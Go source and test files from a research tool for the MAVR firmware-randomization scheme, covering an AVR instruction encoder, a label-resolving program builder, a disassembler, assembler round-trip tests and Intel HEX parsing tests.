func (b *Builder) Here() uint32 { return uint32(len(b.words)) }

// HereBytes returns the current location as a byte address.
func (b *Builder) HereBytes() uint32 { return b.Here() * 2 }

// Label defines name at the current location.
func (b *Builder) Label(name string) {
	if b.labels == nil {
		b.labels = make(map[string]uint32)
	}
	if _, dup := b.labels[name]; dup {
		b.errs = append(b.errs, fmt.Errorf("asm: duplicate label %q", name))
		return
	}
	b.labels[name] = b.Here()
}

// LabelAddr returns the word address of a defined label.
func (b *Builder) LabelAddr(name string) (uint32, bool) {
	a, ok := b.labels[name]
	return a, ok
}

// Labels returns all defined labels sorted by address.
func (b *Builder) Labels() []struct {
	Name string
	Addr uint32
} {
	out := make([]struct {
		Name string
		Addr uint32
	}, 0, len(b.labels))
	for n, a := range b.labels {
		out = append(out, struct {
			Name string
			Addr uint32
		}{n, a})
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Addr != out[j].Addr {
			return out[i].Addr < out[j].Addr
		}
		return out[i].Name < out[j].Name
	})
	return out
}

// Emit appends raw instruction words.
func (b *Builder) Emit(words ...uint16) { b.words = append(b.words, words...) }

// Emit2 appends a two-word instruction.
func (b *Builder) Emit2(w [2]uint16) { b.words = append(b.words, w[0], w[1]) }

// Align pads with NOPs until the location is a multiple of words.
func (b *Builder) Align(words int) {
	for len(b.words)%words != 0 {
		b.Emit(NOP)
	}
}

// JMP emits a long jump to label.
func (b *Builder) JMP(label string) {
	b.fixups = append(b.fixups, fixup{at: b.Here(), label: label, kind: fixAbs22})
	b.Emit(0x940C, 0)
}

// CALL emits a long call to label.
func (b *Builder) CALL(label string) {
	b.fixups = append(b.fixups, fixup{at: b.Here(), label: label, kind: fixAbs22})
	b.Emit(0x940E, 0)
}

// RJMP emits a relative jump to label (must be within ±2K words).
func (b *Builder) RJMP(label string) {
	b.fixups = append(b.fixups, fixup{at: b.Here(), label: label, kind: fixRel12})
	b.Emit(0xC000)
}

// RCALL emits a relative call to label.
func (b *Builder) RCALL(label string) {
	b.fixups = append(b.fixups, fixup{at: b.Here(), label: label, kind: fixRel12})
	b.Emit(0xD000)
}

// BRBS emits a conditional branch on flag s set.
func (b *Builder) BRBS(s int, label string) {
	b.fixups = append(b.fixups, fixup{at: b.Here(), label: label, kind: fixRel7})
	b.Emit(0xF000 | uint16(s))
}

// BRBC emits a conditional branch on flag s clear.
func (b *Builder) BRBC(s int, label string) {
	b.fixups = append(b.fixups, fixup{at: b.Here(), label: label, kind: fixRel7})
	b.Emit(0xF400 | uint16(s))
}

// LDIWordAddr emits "ldi reg, byte <shift> of label's word address"
// (shift 0 for the low byte, 8 for the high byte). This is how code
// loads a function pointer into Z for icall, and how GCC's
// -mcall-prologues return points are encoded — the LDI-encoded
// addresses the MAVR paper calls out as unpatchable (§VI-B1/B2).
func (b *Builder) LDIWordAddr(reg int, label string, shift uint) {
	b.fixups = append(b.fixups, fixup{at: b.Here(), label: label, kind: fixLDI, reg: reg, shift: shift})
	b.Emit(LDI(reg, 0))
}

// LDIByteAddr emits "ldi reg, byte <shift> of label's byte address"
// (shift 0/8/16), used for lpm/elpm pointers into flash data.
func (b *Builder) LDIByteAddr(reg int, label string, shift uint) {
	b.fixups = append(b.fixups, fixup{at: b.Here(), label: label, kind: fixLDI, reg: reg, shift: shift, byteAddr: true})
	b.Emit(LDI(reg, 0))
}

// DW emits a literal data word.
func (b *Builder) DW(w uint16) { b.Emit(w) }

// DWLabel emits the word address of label as a data word (a function
// pointer as avr-gcc stores them).
func (b *Builder) DWLabel(label string) {
	b.fixups = append(b.fixups, fixup{at: b.Here(), label: label, kind: fixWordAddr})
	b.Emit(0)
}

// Assemble resolves all fixups and returns the image as little-endian
// bytes.
func (b *Builder) Assemble() ([]byte, error) {
	if len(b.errs) > 0 {
		return nil, b.errs[0]
	}
	for _, f := range b.fixups {
		target, ok := b.labels[f.label]
		if !ok {
			return nil, fmt.Errorf("asm: undefined label %q", f.label)
		}
		switch f.kind {
		case fixAbs22:
			w := longBranch(b.words[f.at], target)
			b.words[f.at] = w[0]
			b.words[f.at+1] = w[1]
		case fixRel12:
			k := int64(target) - int64(f.at) - 1
			if k < -2048 || k > 2047 {
				return nil, fmt.Errorf("asm: rjmp/rcall to %q out of range (%d words)", f.label, k)
			}
			b.words[f.at] |= uint16(k) & 0x0FFF
		case fixRel7:
			k := int64(target) - int64(f.at) - 1
			if k < -64 || k > 63 {
				return nil, fmt.Errorf("asm: branch to %q out of range (%d words)", f.label, k)
			}
			b.words[f.at] |= (uint16(k) & 0x7F) << 3
		case fixWordAddr:
			if target > 0xFFFF {
				return nil, fmt.Errorf("asm: label %q at 0x%X does not fit a 16-bit function pointer", f.label, target)
			}
			b.words[f.at] = uint16(target)
		case fixLDI:
			addr := target
			if f.byteAddr {
				addr *= 2
			}
			b.words[f.at] = LDI(f.reg, int(addr>>f.shift)&0xFF)
		}
	}
	out := make([]byte, len(b.words)*2)
	for i, w := range b.words {
		out[i*2] = byte(w)
		out[i*2+1] = byte(w >> 8)
	}
	return out, nil
}
