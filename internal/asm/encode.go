// Package asm provides an AVR instruction encoder, a label-aware program
// builder, a small two-pass text assembler and a disassembler for the
// instruction subset simulated by internal/avr.
//
// The MAVR firmware generator uses the Builder to synthesize autopilot
// applications; the gadget finder and the mavr-gadgets tool use the
// disassembler to print Fig. 4/5-style gadget listings.
package asm

import "mavr/internal/avr"

// enc2 encodes a two-register instruction (add, sub, mov, ...).
func enc2(base uint16, d, r int) uint16 {
	return base | uint16(r&0x10)<<5 | uint16(r&0x0F) | uint16(d&0x1F)<<4
}

// encImm encodes a register-immediate instruction (ldi, cpi, subi, ...).
// d must be in 16..31.
func encImm(base uint16, d, k int) uint16 {
	return base | uint16(k&0xF0)<<4 | uint16(d-16)<<4 | uint16(k&0x0F)
}

// Two-register ALU operations.
func ADD(d, r int) uint16  { return enc2(0x0C00, d, r) }
func ADC(d, r int) uint16  { return enc2(0x1C00, d, r) }
func SUB(d, r int) uint16  { return enc2(0x1800, d, r) }
func SBC(d, r int) uint16  { return enc2(0x0800, d, r) }
func AND(d, r int) uint16  { return enc2(0x2000, d, r) }
func OR(d, r int) uint16   { return enc2(0x2800, d, r) }
func EOR(d, r int) uint16  { return enc2(0x2400, d, r) }
func MOV(d, r int) uint16  { return enc2(0x2C00, d, r) }
func CP(d, r int) uint16   { return enc2(0x1400, d, r) }
func CPC(d, r int) uint16  { return enc2(0x0400, d, r) }
func CPSE(d, r int) uint16 { return enc2(0x1000, d, r) }
func MUL(d, r int) uint16  { return enc2(0x9C00, d, r) }

// MOVW copies register pair r:r+1 to d:d+1 (even indices).
func MOVW(d, r int) uint16 { return 0x0100 | uint16(d/2)<<4 | uint16(r/2) }

// MULS multiplies signed (d, r in 16..31).
func MULS(d, r int) uint16 { return 0x0200 | uint16(d-16)<<4 | uint16(r-16) }

// MULSU multiplies signed by unsigned (d, r in 16..23).
func MULSU(d, r int) uint16 { return 0x0300 | uint16(d-16)<<4 | uint16(r-16) }

// Register-immediate operations (d in 16..31).
func LDI(d, k int) uint16  { return encImm(0xE000, d, k) }
func CPI(d, k int) uint16  { return encImm(0x3000, d, k) }
func SUBI(d, k int) uint16 { return encImm(0x5000, d, k) }
func SBCI(d, k int) uint16 { return encImm(0x4000, d, k) }
func ORI(d, k int) uint16  { return encImm(0x6000, d, k) }
func ANDI(d, k int) uint16 { return encImm(0x7000, d, k) }

// One-operand operations.
func COM(d int) uint16  { return 0x9400 | uint16(d)<<4 }
func NEG(d int) uint16  { return 0x9401 | uint16(d)<<4 }
func SWAP(d int) uint16 { return 0x9402 | uint16(d)<<4 }
func INC(d int) uint16  { return 0x9403 | uint16(d)<<4 }
func ASR(d int) uint16  { return 0x9405 | uint16(d)<<4 }
func LSR(d int) uint16  { return 0x9406 | uint16(d)<<4 }
func ROR(d int) uint16  { return 0x9407 | uint16(d)<<4 }
func DEC(d int) uint16  { return 0x940A | uint16(d)<<4 }

// ADIW/SBIW operate on pairs r24/r26/r28/r30 with a 6-bit constant.
func ADIW(d, k int) uint16 {
	return 0x9600 | uint16(k&0x30)<<2 | uint16((d-24)/2)<<4 | uint16(k&0x0F)
}
func SBIW(d, k int) uint16 {
	return 0x9700 | uint16(k&0x30)<<2 | uint16((d-24)/2)<<4 | uint16(k&0x0F)
}

// Stack operations.
func PUSH(d int) uint16 { return 0x920F | uint16(d)<<4 }
func POP(d int) uint16  { return 0x900F | uint16(d)<<4 }

// I/O operations (a is an I/O-space address 0..63).
func IN(d, a int) uint16   { return 0xB000 | uint16(a&0x30)<<5 | uint16(d)<<4 | uint16(a&0x0F) }
func OUT(a, r int) uint16  { return 0xB800 | uint16(a&0x30)<<5 | uint16(r)<<4 | uint16(a&0x0F) }
func CBI(a, b int) uint16  { return 0x9800 | uint16(a)<<3 | uint16(b) }
func SBI(a, b int) uint16  { return 0x9A00 | uint16(a)<<3 | uint16(b) }
func SBIC(a, b int) uint16 { return 0x9900 | uint16(a)<<3 | uint16(b) }
func SBIS(a, b int) uint16 { return 0x9B00 | uint16(a)<<3 | uint16(b) }

// Bit operations.
func BSET(s int) uint16   { return 0x9408 | uint16(s)<<4 }
func BCLR(s int) uint16   { return 0x9488 | uint16(s)<<4 }
func BLD(d, b int) uint16 { return 0xF800 | uint16(d)<<4 | uint16(b) }
func BST(d, b int) uint16 { return 0xFA00 | uint16(d)<<4 | uint16(b) }

// Skip operations.
func SBRC(d, b int) uint16 { return 0xFC00 | uint16(d)<<4 | uint16(b) }
func SBRS(d, b int) uint16 { return 0xFE00 | uint16(d)<<4 | uint16(b) }

// Load/store with displacement. useY selects the Y pointer, else Z.
func lddstd(base uint16, d, q int, useY bool) uint16 {
	w := base | uint16(q&0x20)<<8 | uint16(q&0x18)<<7 | uint16(q&0x07) | uint16(d)<<4
	if useY {
		w |= 0x0008
	}
	return w
}

// LDDY encodes ldd Rd, Y+q.
func LDDY(d, q int) uint16 { return lddstd(0x8000, d, q, true) }

// LDDZ encodes ldd Rd, Z+q.
func LDDZ(d, q int) uint16 { return lddstd(0x8000, d, q, false) }

// STDY encodes std Y+q, Rr.
func STDY(q, r int) uint16 { return lddstd(0x8200, r, q, true) }

// STDZ encodes std Z+q, Rr.
func STDZ(q, r int) uint16 { return lddstd(0x8200, r, q, false) }

// Indirect load/store modes.
func LDX(d int) uint16     { return 0x900C | uint16(d)<<4 }
func LDXInc(d int) uint16  { return 0x900D | uint16(d)<<4 }
func LDXDec(d int) uint16  { return 0x900E | uint16(d)<<4 }
func LDYInc(d int) uint16  { return 0x9009 | uint16(d)<<4 }
func LDYDec(d int) uint16  { return 0x900A | uint16(d)<<4 }
func LDZInc(d int) uint16  { return 0x9001 | uint16(d)<<4 }
func LDZDec(d int) uint16  { return 0x9002 | uint16(d)<<4 }
func STX(r int) uint16     { return 0x920C | uint16(r)<<4 }
func STXInc(r int) uint16  { return 0x920D | uint16(r)<<4 }
func STXDec(r int) uint16  { return 0x920E | uint16(r)<<4 }
func STYInc(r int) uint16  { return 0x9209 | uint16(r)<<4 }
func STYDec(r int) uint16  { return 0x920A | uint16(r)<<4 }
func STZInc(r int) uint16  { return 0x9201 | uint16(r)<<4 }
func STZDec(r int) uint16  { return 0x9202 | uint16(r)<<4 }
func LPMZ(d int) uint16    { return 0x9004 | uint16(d)<<4 }
func LPMZInc(d int) uint16 { return 0x9005 | uint16(d)<<4 }
func ELPMZ(d int) uint16   { return 0x9006 | uint16(d)<<4 }
func ELPMZInc(d int) uint16 {
	return 0x9007 | uint16(d)<<4
}

// Two-word direct load/store. addr is a data-space address.
func LDS(d int, addr uint16) [2]uint16 { return [2]uint16{0x9000 | uint16(d)<<4, addr} }
func STS(addr uint16, r int) [2]uint16 { return [2]uint16{0x9200 | uint16(r)<<4, addr} }

// Control transfer. target is an absolute word address; k a signed word
// displacement relative to the following instruction.
func JMP(target uint32) [2]uint16  { return longBranch(0x940C, target) }
func CALL(target uint32) [2]uint16 { return longBranch(0x940E, target) }

func longBranch(base uint16, target uint32) [2]uint16 {
	hi := uint16(target >> 16)
	return [2]uint16{base | (hi&0x3E)<<3 | hi&1, uint16(target)}
}

func RJMP(k int) uint16    { return 0xC000 | uint16(k&0x0FFF) }
func RCALL(k int) uint16   { return 0xD000 | uint16(k&0x0FFF) }
func BRBS(s, k int) uint16 { return 0xF000 | uint16(k&0x7F)<<3 | uint16(s) }
func BRBC(s, k int) uint16 { return 0xF400 | uint16(k&0x7F)<<3 | uint16(s) }

// BREQ/BRNE are the common zero-flag conditional branches.
func BREQ(k int) uint16 { return BRBS(avr.FlagZ, k) }
func BRNE(k int) uint16 { return BRBC(avr.FlagZ, k) }

// Zero-operand instructions.
const (
	NOP    uint16 = 0x0000
	IJMP   uint16 = 0x9409
	EIJMP  uint16 = 0x9419
	ICALL  uint16 = 0x9509
	EICALL uint16 = 0x9519
	RET    uint16 = 0x9508
	RETI   uint16 = 0x9518
	SLEEP  uint16 = 0x9588
	BREAK  uint16 = 0x9598
	WDR    uint16 = 0x95A8
	LPM    uint16 = 0x95C8
	ELPM   uint16 = 0x95D8
	SPM    uint16 = 0x95E8
	SEI    uint16 = 0x9478
	CLI    uint16 = 0x94F8
)
