package asm

import (
	"fmt"
	"strings"

	"mavr/internal/avr"
)

// FormatInstr renders a decoded instruction as assembly text. pc is the
// instruction's own word address, used to compute absolute targets of
// relative branches.
func FormatInstr(in avr.Instr, pc uint32) string {
	reg := func(r int) string { return fmt.Sprintf("r%d", r) }
	next := int64(pc) + int64(in.Words)

	switch in.Op {
	case avr.OpNOP, avr.OpRET, avr.OpRETI, avr.OpIJMP, avr.OpEIJMP,
		avr.OpICALL, avr.OpEICALL, avr.OpSLEEP, avr.OpBREAK, avr.OpWDR,
		avr.OpSPM, avr.OpLPM, avr.OpELPM:
		return in.Op.String()
	case avr.OpMOVW:
		return fmt.Sprintf("movw r%d:r%d, r%d:r%d", in.D+1, in.D, in.R+1, in.R)
	case avr.OpADD, avr.OpADC, avr.OpSUB, avr.OpSBC, avr.OpAND, avr.OpOR,
		avr.OpEOR, avr.OpMOV, avr.OpCP, avr.OpCPC, avr.OpCPSE, avr.OpMUL,
		avr.OpMULS, avr.OpMULSU, avr.OpFMUL:
		return fmt.Sprintf("%s %s, %s", in.Op, reg(in.D), reg(in.R))
	case avr.OpLDI, avr.OpCPI, avr.OpSUBI, avr.OpSBCI, avr.OpORI, avr.OpANDI:
		return fmt.Sprintf("%s %s, 0x%02X", in.Op, reg(in.D), in.K)
	case avr.OpCOM, avr.OpNEG, avr.OpSWAP, avr.OpINC, avr.OpASR, avr.OpLSR,
		avr.OpROR, avr.OpDEC, avr.OpPUSH, avr.OpPOP:
		return fmt.Sprintf("%s %s", in.Op, reg(in.D))
	case avr.OpADIW, avr.OpSBIW:
		return fmt.Sprintf("%s r%d:%d, 0x%02X", in.Op, in.D+1, in.D, in.K)
	case avr.OpBSET:
		return fmt.Sprintf("bset %d", in.D)
	case avr.OpBCLR:
		return fmt.Sprintf("bclr %d", in.D)
	case avr.OpBLD, avr.OpBST, avr.OpSBRC, avr.OpSBRS:
		return fmt.Sprintf("%s %s, %d", in.Op, reg(in.D), in.B)
	case avr.OpIN:
		return fmt.Sprintf("in %s, 0x%02x", reg(in.D), in.A)
	case avr.OpOUT:
		return fmt.Sprintf("out 0x%02x, %s", in.A, reg(in.D))
	case avr.OpCBI, avr.OpSBI, avr.OpSBIC, avr.OpSBIS:
		return fmt.Sprintf("%s 0x%02x, %d", in.Op, in.A, in.B)
	case avr.OpLDS:
		return fmt.Sprintf("lds %s, 0x%04X", reg(in.D), in.Target)
	case avr.OpSTS:
		return fmt.Sprintf("sts 0x%04X, %s", in.Target, reg(in.D))
	case avr.OpLDX:
		return fmt.Sprintf("ld %s, X", reg(in.D))
	case avr.OpLDXInc:
		return fmt.Sprintf("ld %s, X+", reg(in.D))
	case avr.OpLDXDec:
		return fmt.Sprintf("ld %s, -X", reg(in.D))
	case avr.OpLDYInc:
		return fmt.Sprintf("ld %s, Y+", reg(in.D))
	case avr.OpLDYDec:
		return fmt.Sprintf("ld %s, -Y", reg(in.D))
	case avr.OpLDZInc:
		return fmt.Sprintf("ld %s, Z+", reg(in.D))
	case avr.OpLDZDec:
		return fmt.Sprintf("ld %s, -Z", reg(in.D))
	case avr.OpLDDY:
		if in.Q == 0 {
			return fmt.Sprintf("ld %s, Y", reg(in.D))
		}
		return fmt.Sprintf("ldd %s, Y+%d", reg(in.D), in.Q)
	case avr.OpLDDZ:
		if in.Q == 0 {
			return fmt.Sprintf("ld %s, Z", reg(in.D))
		}
		return fmt.Sprintf("ldd %s, Z+%d", reg(in.D), in.Q)
	case avr.OpSTX:
		return fmt.Sprintf("st X, %s", reg(in.D))
	case avr.OpSTXInc:
		return fmt.Sprintf("st X+, %s", reg(in.D))
	case avr.OpSTXDec:
		return fmt.Sprintf("st -X, %s", reg(in.D))
	case avr.OpSTYInc:
		return fmt.Sprintf("st Y+, %s", reg(in.D))
	case avr.OpSTYDec:
		return fmt.Sprintf("st -Y, %s", reg(in.D))
	case avr.OpSTZInc:
		return fmt.Sprintf("st Z+, %s", reg(in.D))
	case avr.OpSTZDec:
		return fmt.Sprintf("st -Z, %s", reg(in.D))
	case avr.OpSTDY:
		if in.Q == 0 {
			return fmt.Sprintf("st Y, %s", reg(in.D))
		}
		return fmt.Sprintf("std Y+%d, %s", in.Q, reg(in.D))
	case avr.OpSTDZ:
		if in.Q == 0 {
			return fmt.Sprintf("st Z, %s", reg(in.D))
		}
		return fmt.Sprintf("std Z+%d, %s", in.Q, reg(in.D))
	case avr.OpLPMZ:
		return fmt.Sprintf("lpm %s, Z", reg(in.D))
	case avr.OpLPMZInc:
		return fmt.Sprintf("lpm %s, Z+", reg(in.D))
	case avr.OpELPMZ:
		return fmt.Sprintf("elpm %s, Z", reg(in.D))
	case avr.OpELPMZInc:
		return fmt.Sprintf("elpm %s, Z+", reg(in.D))
	case avr.OpJMP, avr.OpCALL:
		return fmt.Sprintf("%s 0x%X", in.Op, in.Target*2)
	case avr.OpRJMP, avr.OpRCALL:
		return fmt.Sprintf("%s .%+d ; 0x%X", in.Op, in.K*2, uint32(next+int64(in.K))*2)
	case avr.OpBRBS, avr.OpBRBC:
		return fmt.Sprintf("%s %d, .%+d ; 0x%X", in.Op, in.D, in.K*2, uint32(next+int64(in.K))*2)
	}
	return "(invalid)"
}

// Disassemble renders the instructions of image (a byte-addressed flash
// slice) from word address start for n instructions, one per line, in
// the layout of the paper's Fig. 4/5 gadget tables.
func Disassemble(image []byte, start uint32, n int) string {
	var sb strings.Builder
	pc := start
	for i := 0; i < n && int(pc)*2 < len(image); i++ {
		in := avr.DecodeAt(image, pc)
		fmt.Fprintf(&sb, "%6x:\t%s\n", pc*2, FormatInstr(in, pc))
		pc += uint32(in.Words)
	}
	return sb.String()
}
