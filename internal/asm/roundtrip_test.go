package asm_test

import (
	"strings"
	"testing"

	"mavr/internal/asm"
	"mavr/internal/avr"
	"mavr/internal/firmware"
)

// Disassembler -> assembler round trip: for every instruction in a
// generated firmware image whose textual form the assembler accepts,
// reassembling the disassembly must reproduce the original encoding.
// (Relative branches print as ".+k" comments and are excluded; their
// encodings are covered by the builder tests.)
func TestDisasmAsmRoundTripOnFirmware(t *testing.T) {
	img, err := firmware.Generate(firmware.TestApp(), firmware.ModeMAVR)
	if err != nil {
		t.Fatal(err)
	}
	checked := 0
	pc := img.Layout.FuncRegionStart / 2
	end := img.Layout.FuncRegionEnd / 2
	for pc < end {
		in := avr.DecodeAt(img.Flash, pc)
		if in.Op == avr.OpInvalid {
			t.Fatalf("invalid opcode at 0x%X", pc*2)
		}
		text := asm.FormatInstr(in, pc)
		if roundTrippable(in, text) {
			words, err := asm.Assemble(text)
			if err != nil {
				t.Fatalf("0x%X: %q does not assemble: %v", pc*2, text, err)
			}
			orig := img.Flash[pc*2 : pc*2+uint32(in.Words)*2]
			if len(words) != len(orig) {
				t.Fatalf("0x%X: %q reassembled to %d bytes, want %d", pc*2, text, len(words), len(orig))
			}
			for i := range orig {
				if words[i] != orig[i] {
					t.Fatalf("0x%X: %q round trip mismatch: % X vs % X", pc*2, text, words, orig)
				}
			}
			checked++
		}
		pc += uint32(in.Words)
	}
	if checked < 500 {
		t.Fatalf("only %d instructions round-tripped — coverage too thin", checked)
	}
	t.Logf("round-tripped %d instructions", checked)
}

// roundTrippable excludes forms whose textual rendering is not
// assembler input (relative branches with ".+k" targets, movw's pair
// syntax, adiw's pair syntax).
func roundTrippable(in avr.Instr, text string) bool {
	switch in.Op {
	case avr.OpRJMP, avr.OpRCALL, avr.OpBRBS, avr.OpBRBC,
		avr.OpMOVW, avr.OpADIW, avr.OpSBIW:
		return false
	}
	return !strings.Contains(text, "(invalid)")
}
