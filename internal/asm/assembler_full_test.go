package asm_test

import (
	"testing"

	"mavr/internal/asm"
	"mavr/internal/avr"
)

// Every mnemonic family the text assembler supports, assembled and
// decoded back.
func TestAssemblerAllMnemonics(t *testing.T) {
	src := `
	start:
		nop
		ret
		reti
		ijmp
		eijmp
		icall
		eicall
		sleep
		wdr
		spm
		sei
		cli
		lpm
		elpm
		add r0, r1
		adc r2, r3
		sub r4, r5
		sbc r6, r7
		and r8, r9
		or r10, r11
		eor r12, r13
		mov r14, r15
		cp r16, r17
		cpc r18, r19
		cpse r20, r21
		mul r22, r23
		ldi r16, 0x12
		cpi r17, 34
		subi r18, 0x56
		sbci r19, 0x78
		ori r20, 0x9A
		andi r21, 0xBC
		adiw r24, 17
		sbiw r26, 42
		com r1
		neg r2
		swap r3
		inc r4
		dec r5
		asr r6
		lsr r7
		ror r8
		push r9
		pop r10
		bld r11, 3
		bst r12, 4
		sbrc r13, 5
		sbrs r14, 6
		cbi 0x05, 1
		sbi 0x05, 2
		sbic 0x05, 3
		sbis 0x05, 4
		in r15, 0x3f
		out 0x3e, r16
		lds r17, 0x0812
		sts 0x0813, r18
		ld r19, X
		ld r20, X+
		ld r21, -X
		ld r22, Y+
		ld r23, -Y
		ld r24, Z+
		ld r25, -Z
		ld r26, Y
		ld r27, Z
		ldd r28, Y+7
		ldd r29, Z+9
		st X, r30
		st X+, r31
		st -X, r0
		st Y+, r1
		st -Y, r2
		st Z+, r3
		st -Z, r4
		st Y, r5
		st Z, r6
		std Y+11, r7
		std Z+13, r8
		lpm r9, Z
		lpm r10, Z+
		elpm r11, Z
		elpm r12, Z+
		movw r24, r30
		jmp start
		call start
		jmp 0x40
		call 0x40
		rjmp start
		rcall start
		rjmp 2
		rcall -2
		brbs 3, start2
		brbc 4, start2
	start2:
		breq start2b
	start2b:
		brne start3
	start3:
		brcs start4
	start4:
		brcc start5
	start5:
		brlo start6
	start6:
		brsh done
	done:
		bset 5
		bclr 6
		.dw 0x1234, start
		.db 1, 2, 3
	`
	img, err := asm.Assemble(src)
	if err != nil {
		t.Fatal(err)
	}
	// Every word up to the data directives must decode to a valid
	// instruction.
	limit := uint32(len(img)/2) - 4 // .dw/.db words at the end
	for pc := uint32(0); pc < limit; {
		in := avr.DecodeAt(img, pc)
		if in.Op == avr.OpInvalid {
			t.Fatalf("word at 0x%X does not decode", pc*2)
		}
		pc += uint32(in.Words)
	}
}

func TestAssemblerMoreErrors(t *testing.T) {
	cases := map[string]string{
		"unknown mnemonic":    "frobnicate r1",
		"bad reg":             "add r32, r0",
		"bad reg format":      "add x1, r0",
		"missing op two-reg":  "add r1",
		"bad bit":             "bld r1, x",
		"bad io num":          "cbi zz, 1",
		"bad in reg":          "in 0x3f, 0x3f",
		"bad out addr":        "out rr, r1",
		"bad lds addr":        "lds r1, qq",
		"bad sts reg":         "sts 0x100, 12",
		"bad st mode":         "st W, r1",
		"bad ld displacement": "ldd r1, Y+99",
		"negative disp":       "ldd r1, Y+-1",
		"bad lpm mode":        "lpm r1, Y",
		"bad brbs flag":       "brbs q, foo",
		"bad bset":            "bset q",
		"undefined label":     "rjmp nowhere",
		"rcall range":         "rcall 99999",
	}
	for name, src := range cases {
		if _, err := asm.Assemble(src); err == nil {
			t.Errorf("%s: no error for %q", name, src)
		}
	}
}

func TestAssemblerLabelOnSameLine(t *testing.T) {
	img, err := asm.Assemble("foo: bar: nop\n rjmp foo")
	if err != nil {
		t.Fatal(err)
	}
	if len(img) != 4 {
		t.Fatalf("image %d bytes", len(img))
	}
	in := avr.DecodeAt(img, 1)
	if in.Op != avr.OpRJMP || in.K != -2 {
		t.Errorf("rjmp to double label mis-assembled: %+v", in)
	}
}

func TestAssemblerComments(t *testing.T) {
	img, err := asm.Assemble(`
		nop ; trailing comment
		// whole-line comment
		nop // другой comment
	`)
	if err != nil {
		t.Fatal(err)
	}
	if len(img) != 4 {
		t.Errorf("image %d bytes, want 4", len(img))
	}
}

func TestBuilderAlignAndHere(t *testing.T) {
	b := asm.NewBuilder()
	b.Emit(asm.NOP)
	b.Align(4)
	if b.Here() != 4 {
		t.Errorf("Here = %d after align(4), want 4", b.Here())
	}
	if b.HereBytes() != 8 {
		t.Errorf("HereBytes = %d, want 8", b.HereBytes())
	}
	b.Label("x")
	labels := b.Labels()
	if len(labels) != 1 || labels[0].Name != "x" || labels[0].Addr != 4 {
		t.Errorf("labels = %+v", labels)
	}
}

func TestBuilderRelativeOutOfRange(t *testing.T) {
	b := asm.NewBuilder()
	b.RJMP("far")
	for i := 0; i < 3000; i++ {
		b.Emit(asm.NOP)
	}
	b.Label("far")
	if _, err := b.Assemble(); err == nil {
		t.Error("rjmp over 3000 words accepted")
	}
}

func TestBuilderDWLabelTooHigh(t *testing.T) {
	b := asm.NewBuilder()
	b.DWLabel("far")
	for i := 0; i < 0x10001; i++ {
		b.Emit(asm.NOP)
	}
	b.Label("far")
	if _, err := b.Assemble(); err == nil {
		t.Error("function pointer above 64K words accepted")
	}
}
