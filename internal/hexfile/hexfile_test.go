package hexfile_test

import (
	"bytes"
	"errors"
	"math/rand"
	"strings"
	"testing"
	"testing/quick"

	"mavr/internal/hexfile"
)

func TestEncodeDecodeRoundTrip(t *testing.T) {
	data := make([]byte, 1000)
	for i := range data {
		data[i] = byte(i * 7)
	}
	s, err := hexfile.EncodeToString(data)
	if err != nil {
		t.Fatal(err)
	}
	got, err := hexfile.DecodeString(s)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, data) {
		t.Error("round trip mismatch")
	}
}

// Images larger than 64KB require type-04 extended linear address
// records (the ATmega2560 has 256KB flash).
func TestEncodeLargeImageUsesExtendedRecords(t *testing.T) {
	data := make([]byte, 200*1024)
	for i := range data {
		data[i] = byte(i)
	}
	s, err := hexfile.EncodeToString(data)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(s, ":02000004") {
		t.Error("no extended linear address records in 200KB image")
	}
	got, err := hexfile.DecodeString(s)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, data) {
		t.Error("large image round trip mismatch")
	}
}

func TestDecodeRejectsBadChecksum(t *testing.T) {
	s := ":0100000041BD\n:00000001FF\n" // checksum should be BE
	_, err := hexfile.DecodeString(s)
	if !errors.Is(err, hexfile.ErrBadChecksum) {
		t.Errorf("want ErrBadChecksum, got %v", err)
	}
}

func TestDecodeRejectsMissingEOF(t *testing.T) {
	s := ":0100000041BE\n"
	_, err := hexfile.DecodeString(s)
	if !errors.Is(err, hexfile.ErrNoEOF) {
		t.Errorf("want ErrNoEOF, got %v", err)
	}
}

func TestDecodeRejectsGarbage(t *testing.T) {
	for _, s := range []string{
		"hello\n",
		":zz000000FF\n",
		":01000000\n",           // truncated
		":020000040001F9\nxx\n", // garbage second line
	} {
		if _, err := hexfile.DecodeString(s); err == nil {
			t.Errorf("no error for %q", s)
		}
	}
}

func TestDecodeFillsGapsWithErasedFlash(t *testing.T) {
	// One byte at 0, one byte at 0x10.
	var sb strings.Builder
	sb.WriteString(":0100000041BE\n")
	sb.WriteString(":0100100042AD\n")
	sb.WriteString(":00000001FF\n")
	got, err := hexfile.DecodeString(sb.String())
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 0x11 {
		t.Fatalf("len = %d, want 0x11", len(got))
	}
	if got[0] != 0x41 || got[0x10] != 0x42 {
		t.Error("data bytes misplaced")
	}
	for i := 1; i < 0x10; i++ {
		if got[i] != 0xFF {
			t.Errorf("gap byte %d = 0x%02X, want 0xFF", i, got[i])
		}
	}
}

func TestRoundTripProperty(t *testing.T) {
	f := func(data []byte) bool {
		s, err := hexfile.EncodeToString(data)
		if err != nil {
			return false
		}
		got, err := hexfile.DecodeString(s)
		if err != nil {
			return false
		}
		if len(data) == 0 {
			return len(got) == 0
		}
		return bytes.Equal(got, data)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
	// Sizes spanning the 64KB boundary.
	rng := rand.New(rand.NewSource(7))
	for _, n := range []int{65535, 65536, 65537, 131072} {
		data := make([]byte, n)
		rng.Read(data)
		if !f(data) {
			t.Errorf("round trip failed at size %d", n)
		}
	}
}

func TestDecodeExtendedSegmentRecords(t *testing.T) {
	// Type-02 records set a 16-byte-paragraph base: 0x1000 -> 0x10000.
	s := ":020000021000EC\n:0100000041BE\n:00000001FF\n"
	got, err := hexfile.DecodeString(s)
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 0x10001 {
		t.Fatalf("len = 0x%X, want 0x10001", len(got))
	}
	if got[0x10000] != 0x41 {
		t.Errorf("byte at segment base = 0x%02X", got[0x10000])
	}
}

func TestDecodeIgnoresStartAddressRecords(t *testing.T) {
	s := ":0400000500000100F6\n:0100000041BE\n:00000001FF\n"
	got, err := hexfile.DecodeString(s)
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 1 || got[0] != 0x41 {
		t.Errorf("data mangled: % X", got)
	}
}

